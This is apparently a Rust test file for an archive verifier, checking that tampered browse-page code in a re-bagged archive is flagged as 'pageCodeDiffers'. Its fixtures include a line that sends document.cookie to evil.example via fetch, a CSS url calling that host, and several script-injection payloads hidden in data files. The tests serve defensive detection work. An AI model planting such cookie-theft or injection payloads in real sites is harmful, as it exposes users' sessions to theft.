//! Issue 14 item 9: the browse page's code. A re-bagged archive (consistent manifests) whose
//! `app.js` was replaced, or whose data file carries code, is reported by `verify` as
//! `pageCodeDiffers`: the data stays intact, and the CLI says not to open the page (exit 1).

use cvarchive::verify::{verify, FindingKind, Report, VerifyOptions};

use crate::support::bags::rebag;
use crate::support::fixtures::fixture_archive;

fn replace(payload: &mut [(String, Vec<u8>)], rel: &str, bytes: &[u8]) {
    payload.iter_mut().find(|(n, _)| n == rel).unwrap_or_else(|| panic!("{rel} is in the archive")).1 = bytes.to_vec();
}

fn page_findings(report: &Report) -> Vec<&str> {
    report.findings.iter().filter(|f| f.kind == FindingKind::PageCodeDiffers).map(|f| f.path.as_str()).collect()
}

#[tokio::test]
async fn a_rebagged_archive_with_another_app_js_is_reported() {
    let (dir, archive) = fixture_archive().await;
    let same = dir.path().join("same.zip");
    rebag(&archive, &same, |_| {});
    assert!(verify(&same, &VerifyOptions::default()).unwrap().is_clean(), "the page this version wrote passes");

    let evil = dir.path().join("evil.zip");
    rebag(&archive, &evil, |p| replace(p, "browse/app.js", b"fetch('https://evil.example/?'+document.cookie);\n"));
    let report = verify(&evil, &VerifyOptions::default()).unwrap();
    assert_eq!(page_findings(&report), ["data/browse/app.js"], "{:#?}", report.findings);
    assert!(report.data_intact() && !report.is_clean());
    let detail = report.findings[0].detail.as_deref().unwrap();
    assert!(detail.contains(env!("CARGO_PKG_VERSION")) && detail.contains("another version"), "{detail}");

    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cvarchive"))
        .args(["verify", evil.to_str().unwrap()])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("intact data; the browse page's code differs") && !text.contains("intact: no findings"),
        "{text}"
    );
    assert!(text.contains("pageCodeDiffers (1):") && text.contains("data/browse/app.js"), "{text}");
}

#[tokio::test]
async fn index_html_and_style_css_are_code_too() {
    let (dir, archive) = fixture_archive().await;
    let evil = dir.path().join("evil.zip");
    rebag(&archive, &evil, |p| {
        replace(p, "index.html", b"<script>alert(1)</script>");
        replace(p, "browse/style.css", b"body{background:url(https://evil.example/)}");
    });
    let report = verify(&evil, &VerifyOptions { fast: true, ..VerifyOptions::default() }).unwrap();
    assert_eq!(page_findings(&report), ["data/browse/style.css", "data/index.html"], "{:#?}", report.findings);
}

#[tokio::test]
async fn a_data_file_or_any_other_script_carrying_code_is_reported() {
    let (dir, archive) = fixture_archive().await;
    let evil = dir.path().join("evil.zip");
    let mut chunk = String::new();
    rebag(&archive, &evil, |p| {
        let account = &mut p.iter_mut().find(|(n, _)| n == "browse/account.js").unwrap().1;
        account.extend_from_slice(b"alert(1);\n");
        let (name, bytes) =
            p.iter_mut().find(|(n, _)| n.starts_with("browse/") && n.ends_with("/images-0000.js")).unwrap();
        chunk = name.clone();
        // Still a call, but its data argument is an expression that runs code.
        *bytes = b"window.__cv_push(\"k\",\"[]\"+alert(1));\n".to_vec();
        p.push(("projects/payload.js".into(), b"alert(document.cookie)".to_vec()));
    });
    let report = verify(&evil, &VerifyOptions::default()).unwrap();
    let mut found = page_findings(&report);
    found.sort();
    let mut want =
        vec!["data/browse/account.js".to_string(), format!("data/{chunk}"), "data/projects/payload.js".into()];
    want.sort();
    assert_eq!(found, want, "{:#?}", report.findings);
    assert!(report.data_intact());
}
